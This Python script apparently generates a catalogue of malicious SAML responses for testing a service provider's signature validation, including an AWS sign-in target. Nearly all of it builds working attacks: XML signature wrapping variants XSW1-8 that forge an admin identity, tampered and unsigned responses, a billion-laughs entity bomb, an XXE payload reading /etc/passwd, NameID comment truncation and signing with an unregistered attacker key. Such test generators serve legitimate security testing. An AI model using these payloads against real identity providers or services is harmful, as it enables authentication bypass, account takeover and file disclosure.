"""The adversarial catalogue's group F, built from responses that pysaml2's IdP signed
(`idp.py`) and assertions that signxml signs: prints a JSON object, variant name -> base64.

    attacks.py DIR ENTITY_ID ATTRIBUTES_JSON

XSW1-XSW8 follow SAMLRaider's numbering (response wrapping 1-2, assertion wrapping 3-8).
"""
import base64
import copy
import datetime
import io
import json
import os
import subprocess
import sys
import uuid
from contextlib import redirect_stdout

from lxml import etree
from signxml import XMLSigner, methods

sys.path.insert(0, os.path.dirname(__file__))
import idp  # noqa: E402

SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol"
SAML = "urn:oasis:names:tc:SAML:2.0:assertion"
DS = "http://www.w3.org/2000/09/xmldsig#"
NS = {"samlp": SAMLP, "saml": SAML, "ds": DS}

d, entity_id, attributes = sys.argv[1], sys.argv[2], json.loads(sys.argv[3])


def pysaml2(**options):
    buf = io.StringIO()
    with redirect_stdout(buf):
        idp.response(d, entity_id, dict({"attributes": attributes}, **options))
    return base64.b64decode(buf.getvalue().strip())


def b64(xml):
    if isinstance(xml, str):
        xml = xml.encode()
    return base64.b64encode(xml).decode()


def tree(raw):
    return etree.fromstring(raw, etree.XMLParser(resolve_entities=False, no_network=True))


def evil(assertion):
    """A forged copy: another ID, another subject."""
    e = copy.deepcopy(assertion)
    e.set("ID", "_evil" + uuid.uuid4().hex)
    for n in e.iter("{%s}NameID" % SAML):
        n.text = "admin@example.test"
    for s in e.findall("ds:Signature", NS):
        e.remove(s)
    return e


out = {}

# Assertion-only signed: the assertion wrapping attacks (XSW3-8).
raw = pysaml2(sign_response=False)
root = tree(raw)
signed = root.find("saml:Assertion", NS)


def variant(build):
    r = tree(raw)
    a = r.find("saml:Assertion", NS)
    build(r, a)
    return b64(etree.tostring(r))


# XSW3: a forged assertion before the signed one.
out["xsw3"] = variant(lambda r, a: a.addprevious(evil(a)))
# XSW4: the signed assertion inside the forged one.
def xsw4(r, a):
    e = evil(a)
    a.addprevious(e)
    r.remove(a)
    e.append(a)
out["xsw4"] = variant(xsw4)
# XSW5: the forged assertion carries the signature; the signed one moved to the end.
def xsw5(r, a):
    e = evil(a)
    sig = copy.deepcopy(a.find("ds:Signature", NS))
    e.insert(1, sig)
    a.addprevious(e)
    r.remove(a)
    r.append(a)
out["xsw5"] = variant(xsw5)
# XSW6: the signed assertion inside the forged assertion's signature.
def xsw6(r, a):
    e = evil(a)
    sig = copy.deepcopy(a.find("ds:Signature", NS))
    e.insert(1, sig)
    a.addprevious(e)
    r.remove(a)
    sig.append(a)
out["xsw6"] = variant(xsw6)
# XSW7: the signed assertion in an Extensions element, the forged one in its place.
def xsw7(r, a):
    ext = etree.SubElement(r, "{%s}Extensions" % SAMLP)
    a.addprevious(evil(a))
    r.remove(a)
    ext.append(a)
out["xsw7"] = variant(xsw7)
# XSW8: the signed assertion inside a ds:Object of the forged assertion's signature.
def xsw8(r, a):
    e = evil(a)
    sig = copy.deepcopy(a.find("ds:Signature", NS))
    obj = etree.SubElement(sig, "{%s}Object" % DS)
    e.insert(1, sig)
    a.addprevious(e)
    r.remove(a)
    obj.append(a)
out["xsw8"] = variant(xsw8)

# Response-only signed: the response wrapping attacks (XSW1-2).
raw_r = pysaml2(sign_assertion=False)


def response_variant(build):
    r = tree(raw_r)
    return b64(etree.tostring(build(r)))


def xsw1(r):
    fake = copy.deepcopy(r)
    fake.set("ID", "_evil" + uuid.uuid4().hex)
    for s in fake.findall("ds:Signature", NS):
        fake.remove(s)
    for n in fake.iter("{%s}NameID" % SAML):
        n.text = "admin@example.test"
    sig = r.find("ds:Signature", NS)
    r.remove(sig)
    sig.append(r)
    fake.insert(1, sig)
    return fake
out["xsw1"] = response_variant(xsw1)


def xsw2(r):
    fake = copy.deepcopy(r)
    fake.set("ID", "_evil" + uuid.uuid4().hex)
    for s in fake.findall("ds:Signature", NS):
        fake.remove(s)
    for n in fake.iter("{%s}NameID" % SAML):
        n.text = "admin@example.test"
    sig = r.find("ds:Signature", NS)
    r.remove(sig)
    fake.insert(1, sig)
    sig.addprevious(r)
    return fake
out["xsw2"] = response_variant(xsw2)

# F-02: two assertions (signed + forged) after the signed response's body; an unsigned
# response with one signed and one unsigned assertion.
out["two_assertions"] = variant(lambda r, a: a.addnext(evil(a)))
# F-04: a signed error Response plus a decoy assertion inside a ds:Object.
def decoy(r):
    sig = r.find("ds:Signature", NS)
    obj = etree.SubElement(sig, "{%s}Object" % DS)
    obj.append(evil(r.find("saml:Assertion", NS)))
    return r
out["decoy_in_object"] = response_variant(decoy)

# The signed values changed after signing.
out["tampered"] = b64(raw.replace(b"alice@example.test", b"admin@example.test"))
# No signature at all.
out["unsigned"] = b64(pysaml2(sign_response=False, sign_assertion=False))
# RSA-SHA1 (pysaml2's old default).
out["sha1"] = b64(pysaml2(sign_alg="sha1"))
# Wrong audience, wrong recipient.
out["wrong_audience"] = b64(pysaml2(audience="https://evil.example/sp"))
out["wrong_recipient"] = b64(pysaml2(recipient="https://evil.example/acs"))
# DTD / entity expansion, and XXE.
bomb = ('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa">'
        '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'
        '<samlp:Response xmlns:samlp="%s">&c;</samlp:Response>' % SAMLP)
out["entity_bomb"] = b64(bomb)
xxe = raw.decode().replace('<?xml version="1.0"?>',
                           '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>')
out["xxe"] = b64(xxe)
# Oversized: the base64 is longer than AWS's 100,000 characters.
out["oversized"] = b64(raw_r + b"<!--" + b"x" * 80_000 + b"-->")


# Assertions signed by signxml: one as a control, one with a comment that would truncate
# the NameID, one signed by a key that is not registered (its certificate embedded).
def assertion_xml(name_id_inner, aid, audience=True):
    now = datetime.datetime.now(datetime.timezone.utc)
    fmt = lambda t: t.strftime("%Y-%m-%dT%H:%M:%SZ")  # noqa: E731
    attrs = "".join(
        '<saml:Attribute Name="%s">%s</saml:Attribute>'
        % (k, "".join("<saml:AttributeValue>%s</saml:AttributeValue>" % v for v in vs))
        for k, vs in attributes.items())
    restriction = ("<saml:AudienceRestriction><saml:Audience>urn:amazon:webservices</saml:Audience>"
                   "</saml:AudienceRestriction>") if audience else ""
    return f"""<samlp:Response xmlns:samlp="{SAMLP}" xmlns:saml="{SAML}" ID="_r{aid}" Version="2.0" IssueInstant="{fmt(now)}" Destination="https://signin.aws.amazon.com/saml"><saml:Issuer>{entity_id}</saml:Issuer><samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status><saml:Assertion ID="_a{aid}" Version="2.0" IssueInstant="{fmt(now)}"><saml:Issuer>{entity_id}</saml:Issuer><ds:Signature xmlns:ds="{DS}" Id="placeholder"></ds:Signature><saml:Subject><saml:NameID Format="urn:oasis:names:tc:SAML:2.0:nameid-format:persistent">{name_id_inner}</saml:NameID><saml:SubjectConfirmation Method="urn:oasis:names:tc:SAML:2.0:cm:bearer"><saml:SubjectConfirmationData NotOnOrAfter="{fmt(now + datetime.timedelta(minutes=5))}" Recipient="https://signin.aws.amazon.com/saml"/></saml:SubjectConfirmation></saml:Subject><saml:Conditions NotBefore="{fmt(now - datetime.timedelta(minutes=1))}" NotOnOrAfter="{fmt(now + datetime.timedelta(minutes=5))}">{restriction}</saml:Conditions><saml:AuthnStatement AuthnInstant="{fmt(now)}"><saml:AuthnContext><saml:AuthnContextClassRef>urn:oasis:names:tc:SAML:2.0:ac:classes:Password</saml:AuthnContextClassRef></saml:AuthnContext></saml:AuthnStatement><saml:AttributeStatement>{attrs}</saml:AttributeStatement></saml:Assertion></samlp:Response>"""


def sign_assertion(name_id_inner, key, cert, audience=True):
    aid = uuid.uuid4().hex
    r = tree(assertion_xml(name_id_inner, aid, audience).encode())
    a = r.find("saml:Assertion", NS)
    signer = XMLSigner(method=methods.enveloped, signature_algorithm="rsa-sha256",
                       digest_algorithm="sha256",
                       c14n_algorithm="http://www.w3.org/2001/10/xml-exc-c14n#")
    signed = signer.sign(a, key=key, cert=cert, reference_uri="_a" + aid)
    r.replace(a, signed)
    return b64(etree.tostring(r))


key = open(os.path.join(d, "idp.key"), "rb").read()
cert = open(os.path.join(d, "idp.crt"), "rb").read()
out["signxml_control"] = sign_assertion("alice@example.test", key, cert)
# Signed, but naming no audience: not issued for AWS's service provider in particular.
out["no_audience"] = sign_assertion("alice@example.test", key, cert, audience=False)
out["comment_truncation"] = sign_assertion("admin@example.test<!---->.evil.test", key, cert)
other = os.path.join(d, "other")
os.makedirs(other, exist_ok=True)
if not os.path.exists(os.path.join(other, "k.pem")):
    subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "3",
                    "-subj", "/CN=attacker", "-keyout", os.path.join(other, "k.pem"),
                    "-out", os.path.join(other, "c.pem")], check=True, capture_output=True)
out["unregistered_key"] = sign_assertion(
    "alice@example.test", open(os.path.join(other, "k.pem"), "rb").read(),
    open(os.path.join(other, "c.pem"), "rb").read())

print(json.dumps(out))
